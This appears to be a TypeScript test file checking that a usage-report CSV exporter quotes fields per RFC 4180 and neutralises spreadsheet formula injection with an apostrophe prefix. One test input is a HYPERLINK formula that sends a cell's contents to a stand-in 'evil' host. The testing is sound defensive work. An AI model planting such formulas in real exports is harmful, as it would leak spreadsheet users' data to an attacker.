// The management API's CSV (csv.ts toCsv, GET /api/usage): RFC 4180 quoting, and a field a spreadsheet would run as
// a formula (a tenant's model name "=HYPERLINK(…)") shown as text.
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.js';

const COLUMNS = ['key', 'runs', 'input_tokens', 'output_tokens', 'tool_calls', 'errors'] as const;
const usageCsv = (rows: Array<ReturnType<typeof row>>) => toCsv(COLUMNS, rows);

const row = (key: string) => ({ key, runs: 1, input_tokens: 2, output_tokens: 3, tool_calls: 0, errors: 0 });

describe('toCsv', () => {
  it('quotes commas, quotes and line ends (RFC 4180)', () => {
    expect(usageCsv([row('a,b'), row('say "hi"'), row('two\r\nlines')])).toBe(
      'key,runs,input_tokens,output_tokens,tool_calls,errors\r\n"a,b",1,2,3,0,0\r\n"say ""hi""",1,2,3,0,0\r\n"two\r\nlines",1,2,3,0,0\r\n',
    );
  });

  it('prefixes a field a spreadsheet would read as a formula with an apostrophe', () => {
    const csv = usageCsv([row('=HYPERLINK("https://evil/?"&A2,"open")'), row('+1'), row('-2'), row('@SUM(A1)'), row('\tx'), row('\rx'), row('gpt-4o'), row('e=mc2')]);
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""https://evil/?""&A2,""open"")",1,2,3,0,0`,
      "'+1,1,2,3,0,0",
      "'-2,1,2,3,0,0",
      "'@SUM(A1),1,2,3,0,0",
      "'\tx,1,2,3,0,0",
      `"'\rx",1,2,3,0,0`,
      'gpt-4o,1,2,3,0,0',
      'e=mc2,1,2,3,0,0',
    ]);
  });
});
